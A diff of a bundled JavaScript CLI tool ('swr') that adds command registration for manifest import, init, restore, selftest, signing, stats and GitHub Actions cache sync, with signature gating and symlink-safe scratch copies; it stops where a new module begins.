 ;// CONCATENATED MODULE: ./src/cli/commands/import.ts
@@ -26141,10 +27611,6 @@ function verifyLegacyHmac(v2, keyFileText) {
  * The result is signed with this machine's keys only when the old HMAC signature was checked
  * (--legacy-key FILE) or the converted content was approved (--approve-digest); else it is unsigned.
  */
-
-
-
-
 
 
 
@@ -26170,14 +27636,14 @@ async function importCommand(oldFile, flags, io) {
         const keyText = external_node_fs_default().readFileSync(external_node_path_default().resolve(io.cwd, flags.legacyKey), 'utf8');
         const verdict = verifyLegacyHmac(parseStrictJson(text).value, keyText);
         if (verdict !== 'valid') {
-            throw new SwrError(`${oldFile}: format-2 HMAC signature is ${verdict} under ${flags.legacyKey}: refusing to import it as trusted`, EXIT.UNREPAIRABLE);
+            throw new SwrError(`${oldFile}: format-2 HMAC signature is ${verdict} under ${flags.legacyKey}: refusing to import it as trusted`, errors_EXIT.UNREPAIRABLE);
         }
         trusted = true;
         why = 'format-2 HMAC signature checked';
     }
     else if (flags.approveDigest !== undefined) {
         if (flags.approveDigest.toLowerCase() !== digest) {
-            throw new SwrError('--approve-digest does not match the converted manifest', EXIT.UNREPAIRABLE);
+            throw new SwrError('--approve-digest does not match the converted manifest', errors_EXIT.UNREPAIRABLE);
         }
         trusted = true;
         why = 'approved by digest';
@@ -26206,7 +27672,14 @@ async function importCommand(oldFile, flags, io) {
             ? `${why}; signed version ${saved.version}, digest ${saved.digest}\n`
             : `${why === 'unsigned: review it, then sign it with "swr sign"' ? why : `${why}, but no signing key here: unsigned`}\n`);
     }
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
+}
+function registerImport(program, { io, run }) {
+    const cmd = withGlobals(program.command('import'))
+        .description("convert the original tool's format-2 manifest to format 3 (unsigned until signed)")
+        .argument('<old.json>', 'format-2 manifest')
+        .option('--legacy-key <file>', "check the old HMAC signature with the original tool's key file; sign the result if it holds");
+    approveOption(cmd, 'sign the converted manifest; or').action((old, flags) => run(() => withManifestLock(flags, io, () => importCommand(old, flags, io))));
 }
 
 ;// CONCATENATED MODULE: ./src/cli/commands/init.ts
@@ -26215,7 +27688,6 @@ async function importCommand(oldFile, flags, io) {
  * scripts beside them, and large blobs. Volatile directories (node_modules, build, .cache, ...) and
  * VCS metadata are skipped; an existing manifest is never overwritten.
  */
-
 
 
 
@@ -26306,17 +27778,287 @@ async function initCommand(flags, io) {
             ? `signed version ${saved.version}, digest ${saved.digest}\n`
             : 'note: unsigned (no signing key here): run "swr keygen", then "swr sign"\n');
     }
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
+}
+function registerInit(program, { io, run }) {
+    jobsOption(withGlobals(program.command('init')))
+        .description('scan the workspace and write a first manifest (never overwrites one)')
+        .action((flags) => run(() => withManifestLock(flags, io, () => initCommand(flags, io))));
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/repair.ts
+/**
+ * `swr restore` and `swr doctor`: the engine's repairManifest, printed as it goes. Exit 0 healthy
+ * or healed, 1 damaged (dry run), 2 unrepairable or refused, 3 still damaged after repair, 130
+ * interrupted.
+ */
+
+
+
+
+
+
+
+
+
+function repairCommand(mode, flags, io) {
+    return withManifestLock(flags, io, () => repair(mode, flags, io));
+}
+async function repair(mode, flags, io) {
+    const say = (s) => {
+        if (!flags.json && !flags.quiet)
+            io.stdout.write(s);
+    };
+    const m = loadManifest(manifestLocation(flags, io).file, {
+        workspace: flags.workspace,
+        cwd: io.cwd
+    });
+    return withWorkspaceLock(m.workspace, flags, io, () => repairLocked(mode, m, flags, io, say));
+}
+async function repairLocked(mode, m, flags, io, say) {
+    const text = { color: useColor(io, flags.color), all: false };
+    const cacheClient = cliCacheClient(m, io);
+    const report = await repairManifest(m, {
+        cacheClient,
+        mode,
+        version: VERSION,
+        stateDir: stateDir(io),
+        policy: buildPolicy(m, flags, io),
+        rememberAccepted: flags.iTrustThisManifest === undefined,
+        callerEnv: io.env,
+        only: flags.only,
+        dryRun: flags.dryRun,
+        cache: flags.cache,
+        jobs: flags.jobs,
+        nativeWalk: nativeWalkAllowed(io.env),
+        timeoutS: flags.timeout,
+        quarantine: flags.quarantine,
+        quarantineLimits: quarantineLimits(io.env),
+        resume: flags.resume,
+        abort: io.abort,
+        hooks: {
+            onCheck: (before, plan) => {
+                // What the platform kept, before anything was repaired.
+                if (flags.record)
+                    recordCheck(before, m, io);
+                const damaged = before.results.filter(f => f.status !== 'OK');
+                say('== check ==\n');
+                if (damaged.length > 0)
+                    say(findingLines(damaged, text).join('\n') + '\n');
+                say(`${before.summary.ok}/${before.summary.entries} healthy${damaged.length ? `, ${damaged.length} damaged (${before.diagnosis.signature})` : ''}\n`);
+                if (damaged.length > 0)
+                    say(`== plan ==\n${renderPlan(plan.waves, text)}`);
+            },
+            onGate: gate => {
+                for (const w of gate.warnings)
+                    io.stderr.write(`swr: warning: ${w}\n`);
+                if (gate.allowed)
+                    say(`== restore ==   (${gate.reason})\n`);
+                else {
+                    io.stderr.write(`swr: refusing to run restore recipes: ${gate.reason}\n`);
+                    io.stderr.write('swr: review the manifest (its recipes are code), then sign it ("swr sign") or trust its signer ("swr trust add"); "swr verify" shows its digest\n');
+                }
+            },
+            onResume: (n, interrupted) => say(n > 0
+                ? `resuming: ${n} entries were repaired by the interrupted run\n`
+                : interrupted
+                    ? 'resuming: the interrupted run repaired no entry yet; its steps run again\n'
+                    : 'resume: no interrupted restore of this manifest to continue\n'),
+            onLine: (id, line) => say(`  [${id}] ${line}\n`),
+            onStep: r => say(renderStep(r, text)),
+            onFinal: final => say(`== re-check ==\n${renderCheck(final, text)}`)
+        }
+    });
+    if (report.repair.collateral)
+        say(renderCollateral(report.repair.collateral, text));
+    if (cacheClient && report.repair.write_back.length > 0) {
+        if (cacheReadOnly(io.env))
+            say('cache: read-only mode (ACTIONS_CACHE_MODE=read): healed entries not saved\n');
+        else {
+            for (const w of report.repair.write_back) {
+                const e = m.body.entries.find(x => x.id === w.id);
+                if (!e)
+                    continue;
+                const saved = await cacheClient.save(resolveEntryPath(m.workspace, e.path), w.key);
+                say(`cache: ${w.id} ${saved === 'saved' ? 'saved as' : saved === 'exists' ? 'already saved as' : 'could not be saved as'} ${w.key}\n`);
+            }
+        }
+    }
+    if (flags.json)
+        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
+    return report.repair.exit_code;
+}
+/** SWR_QUARANTINE_KEEP_DAYS and SWR_QUARANTINE_MAX_MB, when set to a non-negative number. */
+function quarantineLimits(env) {
+    const num = (name) => {
+        const v = env[name];
+        if (v === undefined || v === '')
+            return undefined;
+        const n = Number(v);
+        if (!Number.isFinite(n) || n < 0)
+            throw new UsageError(`${name}=${v}: give a number of 0 or more`);
+        return n;
+    };
+    const days = num('SWR_QUARANTINE_KEEP_DAYS');
+    const mb = num('SWR_QUARANTINE_MAX_MB');
+    return {
+        ...(days !== undefined ? { keepMs: days * 86_400_000 } : {}),
+        ...(mb !== undefined ? { totalBytes: mb * 1024 * 1024 } : {})
+    };
+}
+function registerRepair(program, { io, run }) {
+    for (const mode of ['restore', 'doctor']) {
+        const cmd = trustOptions(withGlobals(program.command(mode)))
+            .description(mode === 'doctor'
+            ? 'check, restore the damaged entries in tier and dependency order, re-check everything uncached'
+            : 'restore the damaged entries in tier and dependency order, re-verify each, re-check everything uncached')
+            .option('--only <id...>', 'consider only these entries')
+            .option('--dry-run', 'print the plan with the reason for each step and run nothing (exit 1 when damaged)')
+            .option('--timeout <s>', "per-recipe timeout in seconds (overrides each entry's timeout_s)", intOption('--timeout', 1, 86400));
+        jobsOption(cmd, 'hashing threads, and recipes run in parallel where the plan allows')
+            .option('--quarantine', 'copy each damaged file or tree into the state directory before its recipe runs (copies older than $SWR_QUARANTINE_KEEP_DAYS, default 7, or beyond $SWR_QUARANTINE_MAX_MB in all, default 1024, are pruned)')
+            .option('--resume', 'continue an interrupted restore of the same manifest and workspace')
+            .option('--record', 'append the first check (what survived, before any repair) to the survival history')
+            .option('--no-cache', 'ignore the incremental cache in the first check');
+        lockOption(cmd).action((flags) => run(() => repairCommand(mode, flags, io), { startsProcesses: true }));
+    }
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/selftest.ts
+/**
+ * `swr selftest [--max-tier N] [--only ID...] [--allow-empty] [--from-scratch]`: prove recipes are
+ * idempotent (doctor may run them many times). Each selected recipe runs twice in a scratch copy
+ * of the workspace (never the live one), with HOME pointed into the scratch too; after each run
+ * the entry must verify. With --from-scratch the entry is removed first, so the recipe must also
+ * recreate it from nothing. Recipes are manifest code,
+ * so the gate decides first.
+ *
+ * The scratch copy carries no symlink that could lead outside it (an absolute target, or one that
+ * climbs out): those are left out and named, so neither swr nor a recipe writing through one
+ * reaches a file outside the scratch copy. Removing an entry resolves its path without following
+ * a symlink in any component; an entry behind one fails without running. Exit 0 all pass, 2 refused or a recipe failed, 3 a recipe ran but
+ * left its entry damaged.
+ */
+
+
+
+
+
+
+async function selftestCommand(flags, io) {
+    const live = loadManifest(manifestLocation(flags, io).file, {
+        workspace: flags.workspace,
+        cwd: io.cwd
+    });
+    const selected = selectEntries(live.body.entries, flags.only).filter(e => recipesOf(e).length > 0 && e.tier <= (flags.maxTier ?? 4));
+    if (selected.length === 0 && !flags.allowEmpty) {
+        throw new SwrError('selftest: no entry with a restore recipe matches the selection (pass --allow-empty to accept that)', errors_EXIT.UNREPAIRABLE);
+    }
+    const gate = await decide(gateInput(live), buildPolicy(live, flags, io));
+    if (!gate.allowed)
+        throw new SwrError(`selftest: refusing to run recipes: ${gate.reason}`, errors_EXIT.UNREPAIRABLE);
+    const scratch = external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-selftest-'));
+    try {
+        const ws = external_node_path_default().join(scratch, 'workspace');
+        const home = external_node_path_default().join(scratch, 'home');
+        const leftOut = selftest_scratchCopy(live.workspace, ws);
+        for (const l of leftOut)
+            io.stderr.write(`swr: selftest: left symlink "${escapeText(l)}" out of the scratch copy: it leads outside the workspace\n`);
+        external_node_fs_default().mkdirSync(home);
+        const m = { ...live, workspace: external_node_fs_default().realpathSync(ws) };
+        const verify = reverifier(m, { stateDir: stateDir(io), nativeWalk: nativeWalkAllowed(io.env) });
+        const damaged = selected.map(e => ({
+            id: e.id,
+            kind: e.kind,
+            path: e.path,
+            tier: e.tier,
+            status: 'MISSING',
+            reason: 'selftest',
+            detail: 'removed for selftest',
+            recorded: {},
+            found: {},
+            cached: false
+        }));
+        const order = planSteps(planRepair(selected, damaged)).map(s => selected.find(e => e.id === s.id));
+        const outcomes = [];
+        for (const e of order) {
+            if (!e)
+                continue;
+            if (flags.fromScratch) {
+                try {
+                    external_node_fs_default().rmSync(resolveNoFollow(m.workspace, e.path), { recursive: true, force: true });
+                }
+                catch (err) {
+                    if (!(err instanceof SymlinkRefusal))
+                        throw err;
+                    outcomes.push({ id: e.id, passed: false, runs: [`not run: ${err.message}`] });
+                    continue;
+                }
+            }
+            const runs = [];
+            let passed = true;
+            for (const round of [1, 2]) {
+                const r = await runRecipe({
+                    id: e.id,
+                    command: recipesOf(e)[0] ?? 'false',
+                    shell: m.body.shell ?? ['bash', '-c'],
+                    cwd: m.workspace,
+                    env: { ...minimalEnv(io.env, [...(e.env ?? []), ...(e.secret_env ?? [])]), HOME: home },
+                    timeoutMs: (flags.timeout ?? e.timeout_s ?? 1800) * 1000
+                }, {
+                    abort: io.abort,
+                    scrub: makeScrubber((e.secret_env ?? []).flatMap(n => io.env[n] ?? []))
+                });
+                const [after] = await verify([e]);
+                const ok = r.exitCode === 0 && after?.status === 'OK';
+                runs.push(`run ${round}: ${describeResult(r, (flags.timeout ?? e.timeout_s ?? 1800) * 1000)}, entry ${after?.status ?? '?'}${ok ? '' : `: ${escapeText(after?.detail ?? '')}`}`);
+                passed &&= ok;
+            }
+            outcomes.push({ id: e.id, passed, runs });
+        }
+        if (flags.json)
+            io.stdout.write(JSON.stringify({ schema: 'swr.selftest/1', scratch: 'removed', results: outcomes }, null, 2) + '\n');
+        else {
+            for (const o of outcomes)
+                io.stdout.write(`${o.passed ? 'PASS' : 'FAIL'} ${o.id}\n${o.runs.map(r => `  ${r}\n`).join('')}`);
+            io.stdout.write(`${outcomes.filter(o => o.passed).length}/${outcomes.length} recipes idempotent (run twice in a scratch copy; the live workspace was not touched)\n`);
+        }
+        return outcomes.every(o => o.passed) ? errors_EXIT.HEALTHY : errors_EXIT.STILL_DAMAGED;
+    }
+    finally {
+        external_node_fs_default().rmSync(scratch, { recursive: true, force: true });
+    }
+}
+/** Copy the workspace for selftest, leaving out symlinks that may lead outside it (returned). */
+function selftest_scratchCopy(from, to) {
+    const root = external_node_fs_default().realpathSync(from);
+    const leftOut = [];
+    external_node_fs_default().cpSync(root, to, {
+        recursive: true,
+        verbatimSymlinks: true,
+        filter: src => {
+            const st = external_node_fs_default().lstatSync(src);
+            if (!st.isSymbolicLink() || linkStaysInside(root, src, external_node_fs_default().readlinkSync(src)))
+                return true;
+            leftOut.push(relativeInside(root, src) ?? src);
+            return false;
+        }
+    });
+    return leftOut;
+}
+function registerSelftest(program, { io, run }) {
+    trustOptions(withGlobals(program.command('selftest')))
+        .description('run recipes twice in a scratch copy of the workspace and check both runs leave their entry verifying')
+        .option('--only <id...>', 'test only these entries')
+        .option('--max-tier <n>', 'test recipes of tiers up to N', intOption('--max-tier', 0, 4))
+        .option('--timeout <s>', 'per-recipe timeout in seconds', intOption('--timeout', 1, 86400))
+        .option('--allow-empty', 'succeed when nothing matches the selection')
+        .option('--from-scratch', 'remove each entry from the scratch copy first: the recipe must recreate it')
+        .action((flags) => run(() => selftestCommand(flags, io), { startsProcesses: true }));
 }
 
 ;// CONCATENATED MODULE: ./src/cli/commands/sign.ts
 /** `swr keygen`, `swr sign`, `swr verify`: key creation, signing under the editing rules, and the gate's view. */
-
-
-
-
-
-
 
 
 
@@ -26328,24 +28070,24 @@ async function keygenCommand(flags, io) {
         throw new UsageError('nothing to create: --no-hmac and --no-mldsa together');
     const made = {};
     if (flags.mldsa) {
-        if (external_node_fs_default().existsSync(keyPath(dir, IDENTITY_FILE)))
-            throw new SwrError(`${keyPath(dir, IDENTITY_FILE)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
+        if (external_node_fs_default().existsSync(keys_keyPath(dir, IDENTITY_FILE)))
+            throw new SwrError(`${keys_keyPath(dir, IDENTITY_FILE)} already exists: keygen never replaces a key`, errors_EXIT.BAD_MANIFEST);
         const seed = createKeyFile(dir, IDENTITY_FILE);
         const id = await identityFromSeed(seed);
-        writeFileAtomic(keyPath(dir, OWN_PUBLIC_KEY_FILE), `${id.fingerprint}\n${Buffer.from(id.publicKey).toString('base64')}\n`, { mode: 0o644 });
+        writeFileAtomic(keys_keyPath(dir, OWN_PUBLIC_KEY_FILE), `${id.fingerprint}\n${Buffer.from(id.publicKey).toString('base64')}\n`, { mode: 0o644 });
         made.mldsa_fingerprint = id.fingerprint;
-        made.mldsa_seed = keyPath(dir, IDENTITY_FILE);
+        made.mldsa_seed = keys_keyPath(dir, IDENTITY_FILE);
     }
-    if (flags.hmac && !flags.mldsa && external_node_fs_default().existsSync(keyPath(dir, HMAC_KEY_FILE))) {
-        throw new SwrError(`${keyPath(dir, HMAC_KEY_FILE)} already exists: keygen never replaces a key`, EXIT.BAD_MANIFEST);
+    if (flags.hmac && !flags.mldsa && external_node_fs_default().existsSync(keys_keyPath(dir, HMAC_KEY_FILE))) {
+        throw new SwrError(`${keys_keyPath(dir, HMAC_KEY_FILE)} already exists: keygen never replaces a key`, errors_EXIT.BAD_MANIFEST);
     }
-    if (flags.hmac && !external_node_fs_default().existsSync(keyPath(dir, HMAC_KEY_FILE))) {
+    if (flags.hmac && !external_node_fs_default().existsSync(keys_keyPath(dir, HMAC_KEY_FILE))) {
         createKeyFile(dir, HMAC_KEY_FILE);
-        made.hmac_key = keyPath(dir, HMAC_KEY_FILE);
+        made.hmac_key = keys_keyPath(dir, HMAC_KEY_FILE);
     }
-    if (flags.sync && !external_node_fs_default().existsSync(keyPath(dir, SYNC_KEY_FILE))) {
+    if (flags.sync && !external_node_fs_default().existsSync(keys_keyPath(dir, SYNC_KEY_FILE))) {
         createKeyFile(dir, SYNC_KEY_FILE);
-        made.sync_key = keyPath(dir, SYNC_KEY_FILE);
+        made.sync_key = keys_keyPath(dir, SYNC_KEY_FILE);
     }
     if (flags.json)
         io.stdout.write(JSON.stringify({ schema: 'swr.keygen/1', ...made }, null, 2) + '\n');
@@ -26359,7 +28101,7 @@ async function keygenCommand(flags, io) {
         if (made.sync_key)
             io.stdout.write(`sync key (seals pushed manifests): ${made.sync_key} (0600)\n`);
     }
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
 }
 async function signCommand(flags, io) {
     const m = loadManifest(manifestLocation(flags, io).file, {
@@ -26370,7 +28112,7 @@ async function signCommand(flags, io) {
         throw new UsageError(`${m.file} is a format-2 manifest: convert it with "swr import" first`);
     const keys = await signingKeys(io);
     if (!hasSigningKey(keys))
-        throw new SwrError('no signing key: run "swr keygen", or set SWR_HMAC_KEY', EXIT.UNREPAIRABLE);
+        throw new SwrError('no signing key: run "swr keygen", or set SWR_HMAC_KEY', errors_EXIT.UNREPAIRABLE);
     const policy = buildPolicy(m, flags, io);
     await authorizeEdit(m, policy, flags.approveDigest);
     const signed = await signDocument(m.doc, keys, recall(stateDir(io), m.file, m.body.scope)?.version ?? 0);
@@ -26392,7 +28134,7 @@ async function signCommand(flags, io) {
     else if (!flags.quiet) {
         io.stdout.write(`signed ${m.file}\n  version ${signed.doc.body.version}, digest ${signed.digest}\n  by ${by.join(' and ')}\n`);
     }
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
 }
 async function verifyCommand(flags, io) {
     const m = loadManifest(manifestLocation(flags, io).file, {
@@ -26401,7 +28143,7 @@ async function verifyCommand(flags, io) {
     });
     const policy = buildPolicy(m, flags, io);
     const decision = await decide(gateInput(m), policy);
-    if (decision.allowed && policy.approveDigest === undefined) {
+    if (decision.allowed && policy.waiveDigest === undefined) {
         remember(stateDir(io), m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
     }
     for (const w of decision.warnings)
@@ -26438,195 +28180,53 @@ async function verifyCommand(flags, io) {
             io.stdout.write('to approve: review the manifest (its recipes are code); then sign it ("swr sign", with --approve-digest and the digest above when its signatures do not verify), or trust its signer ("swr trust add")\n');
         }
     }
-    return decision.allowed ? EXIT.HEALTHY : EXIT.UNREPAIRABLE;
+    return decision.allowed ? errors_EXIT.HEALTHY : errors_EXIT.UNREPAIRABLE;
+}
+function registerSigning(program, { io, run }) {
+    withGlobals(program.command('keygen'))
+        .description("create this machine's ML-DSA-87 identity and HMAC key in the private state directory (never replaces a key)")
+        .option('--no-hmac', 'do not create an HMAC key')
+        .option('--no-mldsa', 'do not create an ML-DSA identity')
+        .option('--no-sync', 'do not create a sync key (it seals manifests that swr push sends off the machine)')
+        .action((flags) => run(() => keygenCommand(flags, io)));
+    approveOption(trustOptions(withGlobals(program.command('sign'))), 'sign')
+        .description('raise the version and sign the manifest with every key this machine holds')
+        .action((flags) => run(() => withManifestLock(flags, io, () => signCommand(flags, io))));
+    trustOptions(withGlobals(program.command('verify')))
+        .description('show each signature (valid, invalid, untrusted signer, absent), the digest, and whether recipes may run; exit 0 allowed, 2 refused')
+        .action((flags) => run(() => verifyCommand(flags, io)));
 }
 
-;// CONCATENATED MODULE: ./src/core/cache-restore/scratch-copy.ts
+;// CONCATENATED MODULE: ./src/cli/commands/stats.ts
+/** `swr stats`: survival per canary class, location and manifest entry, from the history. */
+
+
+function statsCommand(flags, io) {
+    const history = readHistory(stateDir(io));
+    const stats = computeStats(history.records);
+    if (flags.json)
+        io.stdout.write(JSON.stringify({ ...stats, skipped: history.skipped }, null, 2) + '\n');
+    else {
+        io.stdout.write(renderStatsText(stats));
+        if (history.skipped > 0)
+            io.stderr.write(`swr: ${history.skipped} unreadable history lines skipped\n`);
+    }
+    return errors_EXIT.HEALTHY;
+}
+function registerStats(program, { io, run }) {
+    withGlobals(program.command('stats'))
+        .description('survival per canary class, location and manifest entry from the history, with 95% Wilson intervals')
+        .action((flags) => run(() => statsCommand(flags, io)));
+}
+
+;// CONCATENATED MODULE: ./src/adapters/actions-cache-store.ts
 /**
- * A cache archive of swr's own state (a pulled manifest bundle, the canary state) unpacked into a
- * fresh private scratch directory under fixed bounds, holding nothing but directories and regular
- * files. The caller parses and checks it there, and only then takes what it needs.
+ * The GitHub Actions cache as a sync store: the bundle is the only file of a private directory
+ * saved under a key of the manifest's key family (`syncKeyPrefix`); a pull without a recovery code
+ * takes the newest key of the family. Locator: `actions:KEY`. The archive is unpacked into a
+ * private scratch directory under fixed bounds (never into the saved directory, which anyone on
+ * the machine could have planted).
  */
-
-
-
-
-
-
-function onlyPlain(dir) {
-    for (const ent of external_node_fs_default().readdirSync(dir, { withFileTypes: true })) {
-        const abs = external_node_path_default().join(dir, ent.name);
-        if (ent.isDirectory())
-            onlyPlain(abs);
-        else if (!ent.isFile())
-            throw new Rejected(`not a regular file: ${ent.name}`);
-    }
-}
-/** Unpack `archive` (the cache of one directory) into scratch; throws a Rejected. */
-async function scratch_copy_scratchCopy(archive, scratchBase, bounds) {
-    const dir = makeScratch(scratchBase, 'swr-state');
-    const root = external_node_path_default().join(dir, 'w');
-    const dispose = () => removeScratch(dir);
-    try {
-        const x = new EntryExtractor(archive.prefix, root, {
-            kind: 'bounded',
-            ...bounds,
-            single: false
-        });
-        try {
-            await unpack(await archive.open(), archive.compression, x);
-        }
-        finally {
-            x.abort();
-        }
-        x.finish();
-        if (!external_node_fs_default().lstatSync(root).isDirectory())
-            throw new Rejected('the archive does not hold a directory');
-        onlyPlain(root);
-        return { root, dispose };
-    }
-    catch (err) {
-        dispose();
-        if (err instanceof Rejected)
-            throw err;
-        throw new Rejected(`${err.code ?? 'error'}: ${String(err.message).split('\n')[0]}`);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/sync.ts
-/**
- * Off-box copies of the recipe book: the signed manifest with its tree indexes, packed into one
- * bundle that `swr push` saves to the Actions cache and `swr pull` brings back after a wipe.
- *
- * A manifest that carries escrowed bytes never leaves the machine in clear: the bundle is sealed
- * with HPKE (RFC 9180) using the X-Wing hybrid post-quantum KEM (ML-KEM-768 + X25519, a registered
- * HPKE KEM), HKDF-SHA256 and AES-256-GCM, to this machine's sync key. Sealing is not trust: a
- * pulled manifest is still verified (strict parse, schema, signatures through the gate) before
- * anything writes or runs it.
- */
-
-
-const SYNC_FORMAT = 'swr-sync/1';
-const SUITE_NAME = 'HPKE(X-Wing, HKDF-SHA256, AES-256-GCM)';
-const INFO = new TextEncoder().encode('swr manifest bundle v1');
-const MAX_BUNDLE_BYTES = 96 * 1024 * 1024;
-async function suite() {
-    const [{ CipherSuite, HkdfSha256, Aes256Gcm }, { XWing }] = await Promise.all([
-        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(573)]).then(__nccwpck_require__.bind(__nccwpck_require__, 9573)),
-        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(948)]).then(__nccwpck_require__.bind(__nccwpck_require__, 2948))
-    ]);
-    return new CipherSuite({ kem: new XWing(), kdf: new HkdfSha256(), aead: new Aes256Gcm() });
-}
-/** A short, non-secret name of the recipient key (to tell "wrong key" from "damaged"). */
-async function recipientId(seed) {
-    const s = await suite();
-    const kp = await s.kem.deriveKeyPair(new Uint8Array(seed).buffer);
-    const pub = new Uint8Array(await s.kem.serializePublicKey(kp.publicKey));
-    return (0,external_node_crypto_.createHash)('sha256').update('swr-sync-recipient\0').update(pub).digest('hex').slice(0, 16);
-}
-/** Pack, sealing when `seed` is given (always required when the manifest carries escrow). */
-async function packBundle(bundle, seed) {
-    if (!seed)
-        return Buffer.from(JSON.stringify({ format: SYNC_FORMAT, sealed: false, bundle }));
-    const s = await suite();
-    const kp = await s.kem.deriveKeyPair(new Uint8Array(seed).buffer);
-    const sender = await s.createSenderContext({ recipientPublicKey: kp.publicKey, info: INFO });
-    const ct = await sender.seal(new TextEncoder().encode(JSON.stringify(bundle)));
-    const env = {
-        format: SYNC_FORMAT,
-        sealed: true,
-        suite: SUITE_NAME,
-        enc: Buffer.from(sender.enc).toString('base64'),
-        ct: Buffer.from(ct).toString('base64'),
-        recipient: await recipientId(seed)
-    };
-    return Buffer.from(JSON.stringify(env));
-}
-function sync_refuse(why) {
-    return new SwrError(`pulled bundle refused: ${why}`, EXIT.UNREPAIRABLE);
-}
-function isBundle(v) {
-    const b = v;
-    return (typeof b === 'object' &&
-        b !== null &&
-        typeof b.manifest === 'string' &&
-        typeof b.trees === 'object' &&
-        b.trees !== null &&
-        Object.values(b.trees).every(x => typeof x === 'string'));
-}
-/** Unpack (and open, with `seed`) a bundle; every malformed or unopenable input is a clean refusal. */
-async function unpackBundle(bytes, seed) {
-    if (bytes.length > MAX_BUNDLE_BYTES)
-        throw sync_refuse(`${bytes.length} bytes, over the ${MAX_BUNDLE_BYTES}-byte limit`);
-    let env;
-    try {
-        env = JSON.parse(bytes.toString('utf8'));
-    }
-    catch {
-        throw sync_refuse('not a bundle');
-    }
-    if (env?.format !== SYNC_FORMAT)
-        throw sync_refuse(`unknown format ${String(env?.format)}`);
-    if (!env.sealed) {
-        if (!isBundle(env.bundle))
-            throw sync_refuse('malformed bundle');
-        return env.bundle;
-    }
-    if (!seed)
-        throw sync_refuse('it is sealed and no sync key is available (SWR_SYNC_KEY, or "swr keygen" on the machine that pushed)');
-    if (env.suite !== SUITE_NAME)
-        throw sync_refuse(`unknown suite ${env.suite}`);
-    if (env.recipient !== (await recipientId(seed)))
-        throw sync_refuse('it is sealed to another sync key');
-    let plain;
-    try {
-        const s = await suite();
-        const kp = await s.kem.deriveKeyPair(new Uint8Array(seed).buffer);
-        const enc = Buffer.from(env.enc, 'base64');
-        const recipient = await s.createRecipientContext({
-            recipientKey: kp.privateKey,
-            enc: new Uint8Array(enc).buffer,
-            info: INFO
-        });
-        plain = await recipient.open(new Uint8Array(Buffer.from(env.ct, 'base64')).buffer);
-    }
-    catch {
-        throw sync_refuse('it does not open (altered in transit or storage)');
-    }
-    let bundle;
-    try {
-        bundle = JSON.parse(new TextDecoder().decode(plain));
-    }
-    catch {
-        throw sync_refuse('malformed bundle');
-    }
-    if (!isBundle(bundle))
-        throw sync_refuse('malformed bundle');
-    return bundle;
-}
-/** The cache key family for one manifest: the newest push wins on pull. */
-function syncKeyPrefix(scope) {
-    return `swr-manifest-v1-${(0,external_node_crypto_.createHash)('sha256').update(scope).digest('hex').slice(0, 16)}-`;
-}
-
-;// CONCATENATED MODULE: ./src/cli/commands/sync.ts
-/**
- * `swr push` / `swr pull`: carry the signed manifest (with its tree indexes) through the Actions
- * cache, so a runner or sandbox whose workspace was wiped can recover the recipe book first.
- * Escrow-carrying manifests are sealed (HPKE with X-Wing) before they leave the machine; a pulled
- * manifest is verified through the gate before it is written, and never over an existing file.
- */
-
-
-
-
-
-
-
-
-
-
-
 
 
 
@@ -26636,26 +28236,141 @@ function syncKeyPrefix(scope) {
 function syncDir() {
     return external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-sync');
 }
+function actionsCacheStore(ctx, prefix, keyTail) {
+    const client = () => {
+        if (!cacheServiceAvailable(ctx.env))
+            throw new SwrError('actions: push and pull through the Actions cache need its service (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN)', errors_EXIT.UNREPAIRABLE);
+        return actionsCacheClient({
+            env: ctx.env,
+            logToStderr: true,
+            onNote: line => ctx.note?.(line)
+        });
+    };
+    const keyOf = (locator) => {
+        const key = locator.slice('actions:'.length);
+        if (!locator.startsWith('actions:') || !key.startsWith('swr-manifest-') || key.length > 200)
+            throw storeError('actions', `bad locator ${JSON.stringify(locator.slice(0, 120))}`);
+        return key;
+    };
+    return {
+        spelling: 'actions',
+        async put(bytes) {
+            const key = `${prefix}${keyTail}`;
+            const dir = syncDir();
+            external_node_fs_default().rmSync(dir, { recursive: true, force: true });
+            external_node_fs_default().mkdirSync(dir, { mode: 0o700 });
+            try {
+                writeFileAtomic(external_node_path_default().join(dir, 'bundle.json'), bytes, { mode: 0o600 });
+                const saved = await client().save(dir, key);
+                if (saved === 'failed')
+                    throw storeError('actions', `the cache did not take ${key}`);
+            }
+            finally {
+                external_node_fs_default().rmSync(dir, { recursive: true, force: true });
+            }
+            return `actions:${key}`;
+        },
+        locate: () => `actions:${prefix}`,
+        async get(locator) {
+            const key = keyOf(locator);
+            const hit = await client().find(syncDir(), key, [key]);
+            if (!hit)
+                throw storeError('actions', `no pushed manifest in the cache for ${key}`);
+            let copy;
+            try {
+                copy = await scratchCopy(hit, ctx.env.RUNNER_TEMP || ctx.tmpDir, {
+                    maxMembers: 4,
+                    maxBytes: MAX_BUNDLE_BYTES
+                });
+            }
+            catch (err) {
+                throw new SwrError(`pulled bundle refused: ${hit.matchedKey}: ${err instanceof Error ? err.message : String(err)}`, errors_EXIT.UNREPAIRABLE);
+            }
+            try {
+                const file = external_node_path_default().join(copy.root, 'bundle.json');
+                if (!external_node_fs_default().existsSync(file))
+                    throw new SwrError(`pulled bundle refused: ${hit.matchedKey} holds no bundle.json`, errors_EXIT.UNREPAIRABLE);
+                return { bytes: external_node_fs_default().readFileSync(file) };
+            }
+            finally {
+                copy.dispose();
+            }
+        },
+        async stat(locator) {
+            try {
+                const key = keyOf(locator);
+                return (await client().lookup(syncDir(), key))
+                    ? { reachable: true }
+                    : { reachable: false, detail: `no cache for ${key}` };
+            }
+            catch (err) {
+                return { reachable: false, detail: err.message };
+            }
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/sync.ts
+/**
